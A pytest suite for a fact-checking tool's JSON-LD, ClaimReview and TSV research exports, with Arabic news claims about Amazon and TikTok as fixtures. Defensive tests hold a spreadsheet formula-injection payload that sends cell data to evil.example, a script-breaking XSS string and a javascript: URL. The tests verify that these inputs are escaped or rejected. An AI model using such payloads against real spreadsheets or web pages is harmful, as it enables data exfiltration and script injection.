"""ClaimReview and Web Annotation JSON-LD, the research export: valid and true to the text."""

from __future__ import annotations

import csv
import json
import os
import stat
from functools import partial

import pytest

from factcheck.export.jsonld import (
    ANNO_CONTEXT,
    annotations,
    claim_reviews,
    short_claim,
    write_annotations,
    write_claimreview,
)
from factcheck.export.research import (
    ARTICLES_FILE,
    CHECKWORTHY_FILE,
    STANCE_FILE,
    TSV_COLUMNS,
    write_research,
)
from factcheck.model import InvalidInput, SourceInput
from factcheck.text.terms import words
from factcheck.workflow import set_justification

REQUEST_000 = "أمازون تطالب موظفيها بحذف Tik Tok لأسباب أمنية"
REVERSAL_000 = (
    "بعد بضع ساعات، أسقطت شركة أمازون قضية حظر تنزيل تطبيق تيك توك على الأجهزة "
    "المحمولة لموظفيها، وقال عملاق التجارة الإلكترونية إن الخطوة كانت خاطئة."
)
REQUEST_001 = "امازون تطالب موظفيها بحذف تطبيق تيك توك من هواتفهم المحمولة"
DENIAL_001 = "الا ان امازون نفت ذلك بحجة ان الايميل تم ارساله لبعض مستخدميها بالخطأ"


@pytest.fixture
def groups(desk, mark):
    """Two rated groups spanning both articles, plus an unrated claim."""
    reversal = mark(
        1,
        REVERSAL_000,
        status_id="false",
        note="أمازون قالت إن الرسالة أرسلت بالخطأ.",
        sources=[SourceInput(url="https://example.org/statement", stance="refutes")],
    )
    denial = desk.link_claim(mark(2, DENIAL_001).id, reversal.id, "agree")
    request = mark(1, REQUEST_000, status_id="mostly_true")
    echo = desk.link_claim(mark(2, REQUEST_001).id, request.id, "discuss")
    open_claim = mark(2, "تيك توك المملوكة لشركة بيت دانس الصينية")
    return reversal, denial, request, echo, open_claim


def _labels(desk) -> list[str]:
    return [lab for s in desk.statuses() for lab in (s.label_ar, s.label_en)]


def _has_label(text: str, labels: list[str]) -> bool:
    tokens = words(text)
    for label in labels:
        lab = words(label)
        if lab and any(tokens[i : i + len(lab)] == lab for i in range(len(tokens))):
            return True
    return False


def test_claimreview_required_fields(desk, groups, tmp_path):
    reversal, _, request, _, _ = groups
    # reviewBody is the public justification; the internal note stays in the desk
    set_justification(desk, reversal.id, "قالت الشركة إن الرسالة أُرسلت خطأً.")
    out = tmp_path / "reviews.json"
    assert write_claimreview(desk, out, include_unapproved=True) == 2
    reviews = json.loads(out.read_text(encoding="utf-8"))
    assert [r["identifier"] for r in reviews] == [
        f"urn:factcheck:claim:{reversal.id}",
        f"urn:factcheck:claim:{request.id}",
    ]
    labels = _labels(desk)
    for r in reviews:
        assert r["@context"] == "https://schema.org" and r["@type"] == "ClaimReview"
        assert r["claimReviewed"] and len(r["claimReviewed"]) <= 75
        assert not _has_label(r["claimReviewed"], labels)
        rating = r["reviewRating"]
        assert rating["@type"] == "Rating"
        assert rating["bestRating"] == 5 and rating["worstRating"] == 1
        # false → 1, mostly_true → 4 (the scale's rating values, DOMAIN.md)
        expected = {f"urn:factcheck:claim:{reversal.id}": 1, f"urn:factcheck:claim:{request.id}": 4}
        assert rating["ratingValue"] == expected[r["identifier"]]
        assert rating["alternateName"] and rating["name"]
        assert r["url"].startswith("urn:factcheck:claim:")
        assert r["author"]["name"] and r["datePublished"]
        item = r["itemReviewed"]
        assert item["@type"] == "Claim"
        assert [w["headline"] for w in item["appearance"]] == [
            desk.article(1).title,
            desk.article(2).title,
        ]
        assert item["firstAppearance"] in item["appearance"]
    false = reviews[0]
    assert false["reviewRating"]["ratingValue"] == 1
    assert false["reviewRating"]["alternateName"] == "زائف"
    assert false["reviewRating"]["name"] == "False"
    assert false["reviewBody"] == "قالت الشركة إن الرسالة أُرسلت خطأً."
    assert reversal.note and reversal.note not in json.dumps(reviews, ensure_ascii=False)
    assert "reviewBody" not in reviews[1]  # no justification: no body
    assert false["claimReviewed"].startswith("بعد بضع ساعات، أسقطت شركة أمازون")
    assert false["claimReviewed"].endswith("…")
    assert reviews[1]["claimReviewed"] == REQUEST_000


def test_claimreview_options_and_article_filter(desk, groups, tmp_path):
    reversal, *_ = groups
    reviews = claim_reviews(
        desk, org="مرصد التحقق", url_template="https://checks.example/{claim_id}",
        include_unapproved=True,
    )
    assert reviews[0]["url"] == f"https://checks.example/{reversal.id}"
    assert reviews[0]["author"] == {"@type": "Organization", "name": "مرصد التحقق"}
    # a group counts for an article where any of its appearances is
    assert len(claim_reviews(desk, article_id=2, include_unapproved=True)) == 2
    # Only {claim_id} is replaced: no format specs (a huge width ate memory), no attribute
    # access, and the result must be an http(s) address (a review's link is published).
    for bad in (
        "https://x/{id}",
        "https://x.org/{claim_id:>99999999999}",
        "https://x.org/{claim_id.__class__}",
        "javascript:alert({claim_id})",
        "no-template",
        "https://x.org/{claim_id}/{}",
    ):
        with pytest.raises(InvalidInput, match="URL template"):
            write_claimreview(desk, tmp_path / "x.json", url_template=bad)
    assert not (tmp_path / "x.json").exists()
    desk.set_status(reversal.id, "in_progress")
    assert len(claim_reviews(desk, include_unapproved=True)) == 1  # no rating: not final


def test_claimreviewed_drops_verdict_words_and_is_short():
    labels = ["زائف", "False", "صحيح في معظمه", "Mostly true", "لم يُتحقَّق منه"]
    text = short_claim("«زائف: أمازون طلبت حذف تيك توك»", labels)
    assert text == "أمازون طلبت حذف تيك توك"
    text = short_claim("هذا صحيحٌ في معظمه: FALSE news about Amazon", labels)
    assert "FALSE" not in text and "معظمه" not in text
    long = " ".join(["كلمة"] * 40)
    text = short_claim(long, labels)
    assert len(text) <= 75 and text.endswith("…") and " " not in text[-2:]
    assert short_claim("زائف", labels) == "زائف"  # nothing else to say: kept as is


def test_annotations_selectors_match_the_text(desk, groups, tmp_path):
    out = tmp_path / "anno.jsonld"
    assert write_annotations(desk, out) == 5
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["@context"] == ANNO_CONTEXT
    assert doc["type"] == "AnnotationCollection" and doc["total"] == 5
    items = doc["first"]["items"]
    assert len(items) == 5
    for item in items:
        assert item["@context"] == ANNO_CONTEXT and item["type"] == "Annotation"
        claim_id = int(item["id"].rsplit(":", 1)[1])
        claim = desk.claim(claim_id)
        text = desk.article(claim.article_id).text
        target = item["target"]
        assert target["source"] == f"urn:factcheck:article:{claim.article_id}"
        pos = next(s for s in target["selector"] if s["type"] == "TextPositionSelector")
        quote = next(s for s in target["selector"] if s["type"] == "TextQuoteSelector")
        assert text[pos["start"] : pos["end"]] == quote["exact"] == claim.quote
        assert text[: pos["start"]].endswith(quote["prefix"])
        assert text[pos["end"] :].startswith(quote["suffix"])
        values = [b.get("value") for b in item["body"]]
        assert claim.status_id in values
        assert f"stance:{claim.stance}" in values
        groups_ = [
            b["source"] for b in item["body"] if b.get("purpose") == "identifying"
        ]
        assert groups_ == [f"urn:factcheck:claim:{claim.group_id}"]
    one = annotations(desk, article_id=1)
    assert {int(a["id"].rsplit(":", 1)[1]) for a in one} == {groups[0].id, groups[2].id}


def test_research_export(desk, groups, tmp_path):
    reversal, denial, _, echo, open_claim = groups
    folder = tmp_path / "research"
    counts = write_research(desk, folder)
    pairs = [
        json.loads(line)
        for line in (folder / STANCE_FILE).read_text(encoding="utf-8").splitlines()
    ]
    assert counts[STANCE_FILE] == len(pairs) == 5
    by_id = {p["appearance_id"]: p for p in pairs}
    assert by_id[denial.id]["claim_id"] == reversal.id
    assert by_id[denial.id]["claim"] == reversal.quote
    assert by_id[echo.id]["stance"] == "discuss"
    assert by_id[echo.id]["status"] == "mostly_true" and by_id[echo.id]["rating"] == 4
    assert by_id[open_claim.id]["rating"] is None
    for p in pairs:
        assert p["stance"] in ("agree", "disagree", "discuss", "unrelated")
        text = desk.article(p["article_id"]).text
        assert text[p["start"] : p["end"]] == p["quote"]

    with (folder / CHECKWORTHY_FILE).open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))
    assert tuple(rows[0]) == TSV_COLUMNS
    body = rows[1:]
    assert len(body) == sum(a.sentence_count for a in desk.articles())
    assert all(len(r) == 5 and r[4] in ("0", "1") for r in body)
    marked = {(r[0], r[1]) for r in body if r[4] == "1"}
    expected = set()
    for claim in desk.claims():
        for s in desk.sentences(claim.article_id):
            if claim.start < s.end and claim.end > s.start:
                expected.add((str(claim.article_id), f"{claim.article_id}-{s.index}"))
    assert marked == expected
    articles = [
        json.loads(line)
        for line in (folder / ARTICLES_FILE).read_text(encoding="utf-8").splitlines()
    ]
    assert [a["text"] for a in articles] == [desk.article(i).text for i in (1, 2)]

    with pytest.raises(InvalidInput, match="already exists"):
        write_research(desk, folder)
    assert write_research(desk, folder, overwrite=True, article_id=2)[STANCE_FILE] == 3
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [STANCE_FILE, CHECKWORTHY_FILE, ARTICLES_FILE]
    )  # no temp files left behind


@pytest.mark.parametrize(
    "writer", [write_claimreview, write_annotations], ids=["claimreview", "annotations"]
)
def test_json_exports_are_atomic_and_refuse_to_overwrite(
    desk, groups, tmp_path, writer
):
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "export.json"
    out.write_text("keep me", encoding="utf-8")
    with pytest.raises(InvalidInput, match="already exists"):
        writer(desk, out)
    assert out.read_text(encoding="utf-8") == "keep me"
    writer(desk, out, overwrite=True)
    json.loads(out.read_text(encoding="utf-8"))
    assert [p.name for p in folder.iterdir()] == ["export.json"]  # no temp file left
    with pytest.raises(InvalidInput):
        writer(desk, folder)  # a folder
    with pytest.raises(InvalidInput):
        writer(desk, tmp_path / "missing" / "x.json")
    with pytest.raises(InvalidInput):
        writer(desk, tmp_path / "y.json", article_id=999)


def test_hostile_text_is_escaped(desk, tmp_path):
    body = 'عنوان\nقال "المتحدث" \\ إن </script> \u202eمقلوب\u202c و\ttab.\n'
    out = desk.import_text(body)
    text = desk.article(out.article_id).text
    start = text.index("قال")
    claim = desk.add_claim(
        out.article_id, start, text.index(".", start) + 1, status_id="false"
    )
    reviews = tmp_path / "r.json"
    write_claimreview(desk, reviews, include_unapproved=True)
    data = json.loads(reviews.read_text(encoding="utf-8"))
    assert '"المتحدث"' in data[0]["claimReviewed"]
    anno = tmp_path / "a.jsonld"
    write_annotations(desk, anno)
    items = json.loads(anno.read_text(encoding="utf-8"))["first"]["items"]
    assert items[0]["target"]["selector"][1]["exact"] == claim.quote
    folder = tmp_path / "r"
    write_research(desk, folder)
    rows = (folder / CHECKWORTHY_FILE).read_text(encoding="utf-8").splitlines()
    assert all(line.count("\t") == 4 for line in rows)


def test_check_worthiness_tsv_neutralises_formulas(desk, tmp_path):
    """A sentence that a spreadsheet would run (plain, behind a bidi mark or white space,
    full-width) goes out with a leading ' in the research TSV, as in the CSV."""
    poison = [
        '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
        "\u200f=1+1 قال الوزير.",
        "\uff0b1+1 قال الوزير.",
        "@SUM(A1) قال الوزير.",
    ]
    article = desk.import_text("عنوان المقال\n" + "\n".join(poison) + "\n")
    folder = tmp_path / "research"
    write_research(desk, folder, article_id=article.article_id)
    with open(folder / CHECKWORTHY_FILE, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))
    texts = [row[TSV_COLUMNS.index("sentence_text")] for row in rows[1:]]
    for sentence in poison:
        assert "'" + sentence in texts, (sentence, texts)
    assert "عنوان المقال" in texts  # ordinary sentences are left alone


def _write_csv(desk, out, **kw):
    from factcheck.export import write_csv_report

    return write_csv_report(desk, out, **kw)


@pytest.mark.parametrize(
    "writer",
    [_write_csv, write_claimreview, write_annotations],
    ids=["csv", "claimreview", "annotations"],
)
def test_exports_keep_the_umask_and_a_replaced_files_mode(desk, groups, tmp_path, writer):
    """A new export is as private as the user's umask makes new files; ``--force`` over a
    file keeps that file's mode (a 0600 report stays private)."""
    old = os.umask(0o077)
    try:
        writer(desk, tmp_path / "private.out")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "private.out").stat().st_mode) == 0o600
    old = os.umask(0o022)
    try:
        writer(desk, tmp_path / "shared.out")
        assert stat.S_IMODE((tmp_path / "shared.out").stat().st_mode) == 0o644
        replaced = tmp_path / "replaced.out"
        replaced.write_text("old", encoding="utf-8")
        replaced.chmod(0o600)
        writer(desk, replaced, overwrite=True)
        assert replaced.read_text(encoding="utf-8-sig") != "old"
        assert stat.S_IMODE(replaced.stat().st_mode) == 0o600
        replaced.chmod(0o664)
        writer(desk, replaced, overwrite=True)
        assert stat.S_IMODE(replaced.stat().st_mode) == 0o664
    finally:
        os.umask(old)


def test_research_export_keeps_the_umask_and_replaced_modes(desk, groups, tmp_path):
    folder = tmp_path / "research"
    old = os.umask(0o077)
    try:
        write_research(desk, folder)
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
    assert modes == {name: 0o600 for name in (STANCE_FILE, CHECKWORTHY_FILE, ARTICLES_FILE)}
    (folder / STANCE_FILE).chmod(0o640)
    old = os.umask(0o022)
    try:
        write_research(desk, folder, overwrite=True)
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
    assert modes == {STANCE_FILE: 0o640, CHECKWORTHY_FILE: 0o600, ARTICLES_FILE: 0o600}


SCRIPT_BREAK = "</script><script>alert(1)</script> <!-- & \u2028 \u2029"


@pytest.mark.parametrize(
    "writer",
    [partial(write_claimreview, include_unapproved=True), write_annotations],
    ids=["claimreview", "annotations"],
)
def test_json_ld_can_be_pasted_inside_a_script_element(desk, tmp_path, writer):
    """A title, publisher, quote or note that would close the <script> element holding it
    is written with \\u escapes: nothing raw, and the JSON still reads back exactly."""
    body = f"{SCRIPT_BREAK} عنوان\nقال الوزير {SCRIPT_BREAK} إن النمو بلغ خمسة في المئة.\n"
    aid = desk.import_text(body, publisher=SCRIPT_BREAK).article_id
    text = desk.article(aid).text
    start = text.index("قال")
    claim = desk.add_claim(
        aid, start, text.index(".", start) + 1, status_id="false", note=SCRIPT_BREAK
    )
    set_justification(desk, claim.id, SCRIPT_BREAK)
    out = tmp_path / "export.json"
    assert writer(desk, out, article_id=aid) == 1
    raw = out.read_text(encoding="utf-8")
    for ch in "<>&\u2028\u2029":
        assert ch not in raw, ch
    assert "\\u003c/script\\u003e" in raw
    data = json.loads(raw)
    if isinstance(data, list):  # the ClaimReview array
        (review,) = data
        assert review["reviewBody"] == SCRIPT_BREAK
        assert review["itemReviewed"]["appearance"][0]["headline"] == desk.article(aid).title
        assert review["itemReviewed"]["appearance"][0]["publisher"]["name"] == SCRIPT_BREAK
    else:
        (item,) = data["first"]["items"]
        assert item["target"]["selector"][1]["exact"] == claim.quote
        assert {"type": "TextualBody", "purpose": "commenting", "value": SCRIPT_BREAK} in item[
            "body"
        ]
